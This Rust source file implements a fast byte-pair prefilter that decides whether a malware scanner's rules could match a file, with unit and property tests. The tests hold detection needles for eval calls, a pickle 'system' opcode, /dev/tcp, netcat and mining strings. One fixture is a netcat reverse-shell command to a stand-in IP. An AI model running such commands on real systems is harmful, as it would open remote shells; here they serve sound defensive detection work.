//! A look at bytes that says whether any built-in rule could match them at all.
//!
//! Loading the engine and its rules costs a hundred times what judging a small model costs, and nearly no honest artifact holds anything that a rule
//! looks for. So each rule is known by needles too, texts of which one stands in whatever the rule matches; where none stands, the engine is not asked.
//! The needles are derived from the rules by a test, never by hand: a rule that changes without them is not sieved.
//!
//! The search is that of Wu and Manber over pairs of bytes: it looks at about one byte of three. An adversary who
//! writes needles into a file gets the rules applied to it, which is what happened to every file before.

use crate::needles::Pair;

/// Bytes that needles are sorted by; none is shorter.
const START_BYTES: usize = 3;
/// Longest step; more would not help, because the shortest needle bounds it.
const WINDOW_BYTES_MAX: usize = 32;
const PAIRS: usize = 1 << 16;

/// What a region must hold for a rule to match.
#[derive(Debug)]
pub(crate) struct Sieve {
    any: Search,
    pairs: Vec<(Few, Few)>,
}

impl Sieve {
    /// Of needles of which one must be there, as it is or, where it stands in lower case in `any_case`, in any; and of pairs of lists, of which one each
    /// must, in any case. Nothing where they cannot be looked for.
    pub(crate) fn new(exact: &[&'static [u8]], any_case: &[&'static [u8]], pairs: &[Pair]) -> Option<Self> {
        let pairs = pairs.iter().map(|(one, other)| Some((Few::new(one)?, Few::new(other)?))).collect::<Option<_>>()?;
        Some(Self { any: Search::new(exact, any_case)?, pairs })
    }

    /// True where `bytes` holds what a rule needs.
    pub(crate) fn holds(&self, bytes: &[u8]) -> bool {
        self.any.holds(bytes) || self.pairs.iter().any(|(one, other)| one.holds(bytes) && other.holds(bytes))
    }
}

/// Needles that are looked for at once.
#[derive(Debug)]
struct Search {
    /// Bytes that every needle has at least.
    window: usize,
    /// How far the end of the window may move when it stands behind a pair of bytes; 0 where a needle's window may end.
    steps: Box<[u8; PAIRS]>,
    needles: Needles,
}

impl Search {
    /// Nothing for empty lists, and for one with a needle that is too short.
    fn new(exact: &[&'static [u8]], any_case: &[&'static [u8]]) -> Option<Self> {
        let all = || exact.iter().map(|needle| (*needle, true)).chain(any_case.iter().map(|needle| (*needle, false)));
        let window = all().map(|(needle, _)| needle.len()).min()?.min(WINDOW_BYTES_MAX);
        let furthest = u8::try_from(window.checked_sub(1)?).ok()?;
        let mut steps: Box<[u8; PAIRS]> = vec![furthest; PAIRS].into_boxed_slice().try_into().ok()?;
        for (needle, exact) in all() {
            let other = |byte: u8| if exact { byte } else { byte.to_ascii_uppercase() };
            for (left, pair) in (0_u8..).zip(needle.get(..window)?.windows(2).rev()) {
                let [first, second] = *pair.first_chunk::<2>()?;
                for one in [first, other(first)] {
                    for two in [second, other(second)] {
                        let step = steps.get_mut(usize::from(u16::from_le_bytes([one, two])))?;
                        *step = left.min(*step);
                    }
                }
            }
        }
        Some(Self { window, steps, needles: Needles::new(all())? })
    }

    /// True where a needle stands in `bytes`.
    fn holds(&self, bytes: &[u8]) -> bool {
        let mut at = self.window - 2;
        while let Some(pair) = bytes.get(at..).and_then(|rest| rest.first_chunk::<2>()) {
            match self.steps.get(usize::from(u16::from_le_bytes(*pair))) {
                Some(0) if self.needles.start(bytes.get(at + 2 - self.window..).unwrap_or_default()) => return true,
                Some(step) => at += usize::from(*step).max(1),
                None => return true,
            }
        }
        false
    }
}

/// Few needles in lower case, which are looked for in any by their first byte.
#[derive(Debug)]
struct Few {
    first: [bool; 256],
    needles: Needles,
}

impl Few {
    fn new(needles: &[&'static [u8]]) -> Option<Self> {
        let mut first = [false; 256];
        for needle in needles {
            let byte = *needle.first()?;
            for byte in [byte, byte.to_ascii_uppercase()] {
                *first.get_mut(usize::from(byte))? = true;
            }
        }
        Some(Self { first, needles: Needles::new(needles.iter().map(|needle| (*needle, false)))? })
    }

    fn holds(&self, bytes: &[u8]) -> bool {
        let may_start = |byte: u8| self.first.get(usize::from(byte)).copied().unwrap_or(true);
        bytes.iter().enumerate().any(|(at, byte)| may_start(*byte) && self.needles.start(bytes.get(at..).unwrap_or_default()))
    }
}

/// Needles by their first bytes.
#[derive(Debug)]
struct Needles {
    /// The start in lower case, the needle, and whether its case counts; in the order of the starts.
    sorted: Vec<([u8; START_BYTES], &'static [u8], bool)>,
    /// Which sums of first bytes there are: nearly every other start is told from them at once.
    sums: Box<[bool; SUMS]>,
}

impl Needles {
    fn new(needles: impl Iterator<Item = (&'static [u8], bool)>) -> Option<Self> {
        let entry = |(needle, exact): (&'static [u8], bool)| Some((lower(*needle.first_chunk()?), needle, exact));
        let mut sorted = needles.map(entry).collect::<Option<Vec<_>>>()?;
        sorted.sort_unstable_by_key(|(start, ..)| *start);
        let mut sums: Box<[bool; SUMS]> = vec![false; SUMS].into_boxed_slice().try_into().ok()?;
        for (start, ..) in &sorted {
            *sums.get_mut(sum(*start))? = true;
        }
        Some(Self { sorted, sums })
    }

    /// True where one stands at the beginning of `bytes`.
    fn start(&self, bytes: &[u8]) -> bool {
        let Some(start) = bytes.first_chunk::<START_BYTES>() else { return false };
        if self.sums.get(sum(*start)) == Some(&false) {
            return false;
        }
        let start = lower(*start);
        let from = self.sorted.partition_point(|(known, ..)| *known < start);
        let mut alike = self.sorted.get(from..).unwrap_or_default().iter().take_while(|(known, ..)| *known == start);
        alike.any(|(_, needle, exact)| {
            let text = bytes.get(..needle.len()).unwrap_or_default();
            if *exact { text == *needle } else { text.eq_ignore_ascii_case(needle) }
        })
    }
}

fn lower(start: [u8; START_BYTES]) -> [u8; START_BYTES] {
    start.map(|byte| byte.to_ascii_lowercase())
}

const SUMS: usize = 1 << 12;

/// The same for upper and lower case.
fn sum([one, two, three]: [u8; START_BYTES]) -> usize {
    let [one, two, three] = [one | 0x20, two | 0x20, three | 0x20].map(usize::from);
    (one ^ two << 3 ^ three << 5) % SUMS
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const EXACT: &[&[u8]] = &[b"eVal(", b"\x8c\x06system", b"val(B64"];
    const ANY_CASE: &[&[u8]] = &[b"/dev/tcp", b"636f"];

    #[test]
    fn needles_are_found_wherever_they_stand() {
        let search = Search::new(EXACT, ANY_CASE).unwrap();
        for needle in EXACT.iter().map(|needle| needle.to_vec()).chain(ANY_CASE.iter().map(|needle| needle.to_ascii_uppercase())) {
            for before in 0..20 {
                let text = [&vec![b'e'; before][..], &needle, b"x"].concat();
                assert!(search.holds(&text), "{text:?}");
                let cut = &text[..before + needle.len() - 1];
                assert!(!search.holds(cut), "{cut:?}");
            }
        }
        assert!(!search.holds(b"") && !search.holds(b"eV") && !search.holds(b"EVAL( VAL(b64"));
    }

    #[test]
    fn lists_that_cannot_be_looked_for_are_refused() {
        let lists: [&[&[u8]]; 3] = [&[], &[b"ab"], &[b"abcdef", b""]];
        for list in lists {
            assert!(Search::new(list, &[]).is_none() && Search::new(&[], list).is_none());
        }
    }

    #[test]
    fn of_a_pair_both_must_be_there() {
        let sieve = Sieve::new(&[b"stratum"], &[], &[(&[b"-e ", b"-c "], &[b"nc ", b"ncat"])]).unwrap();
        assert!(sieve.holds(b"x nc 203.0.113.7 4444 -e sh") && sieve.holds(b"-c , Ncat") && sieve.holds(b"stratum"));
        assert!(!sieve.holds(b"a func of some kind") && !sieve.holds(b"perl -e print") && !sieve.holds(b""));
    }

    proptest! {
        /// The same answer as looking at every place for every needle; the letters are those of the needles, so that there is much to stumble over.
        #[test]
        fn it_answers_as_the_plain_search_does(letters in proptest::collection::vec(0_usize..25, 0..200)) {
            let alphabet = b"evalEVAL(/dtcpD\x8c\x06systemB";
            let text: Vec<u8> = letters.iter().filter_map(|at| alphabet.get(*at).copied()).collect();
            let lower = text.to_ascii_lowercase();
            let there = |text: &[u8], needles: &[&[u8]]| needles.iter().any(|needle| text.windows(needle.len()).any(|window| window == *needle));
            prop_assert_eq!(Search::new(EXACT, ANY_CASE).unwrap().holds(&text), there(&text, EXACT) || there(&lower, ANY_CASE));
        }
    }
}
